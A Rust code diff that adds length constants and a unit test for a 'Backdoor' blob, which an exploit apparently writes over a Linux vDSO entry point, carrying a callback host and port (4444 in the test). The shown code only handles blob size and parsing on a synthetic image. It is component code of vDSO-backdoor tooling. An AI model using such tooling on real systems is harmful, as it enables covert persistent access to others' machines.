@@ -42,6 +42,14 @@ pub struct Backdoor {
 }
 
 impl Backdoor {
+    /// The longest backdoor blob: magic, port, host length and a host of
+    /// at most 255 bytes.
+    pub const MAX_WIRE_LEN: usize = 11 + u8::MAX as usize;
+
+    /// How much of a vDSO image [`parse`](Self::parse) can look at: a
+    /// reader needs only this prefix of the page.
+    pub const IMAGE_PREFIX_LEN: usize = VDSO_ENTRY_OFFSET + Self::MAX_WIRE_LEN;
+
     /// Serializes the backdoor blob the exploit writes over the vDSO
     /// entry point.
     pub fn to_bytes(&self) -> Vec<u8> {
@@ -99,6 +107,16 @@ mod tests {
         // Still fingerprints as a vDSO page (the exploit only patches the
         // entry point).
         assert!(is_vdso_page(&img));
+    }
+
+    #[test]
+    fn longest_backdoor_fits_the_image_prefix() {
+        let mut img = vdso_image();
+        let bd = Backdoor { host: "h".repeat(255), port: 4444 };
+        let blob = bd.to_bytes();
+        assert_eq!(blob.len(), Backdoor::MAX_WIRE_LEN);
+        img[VDSO_ENTRY_OFFSET..VDSO_ENTRY_OFFSET + blob.len()].copy_from_slice(&blob);
+        assert_eq!(Backdoor::parse(&img[..Backdoor::IMAGE_PREFIX_LEN]), Some(bd));
     }
 
     #[test]
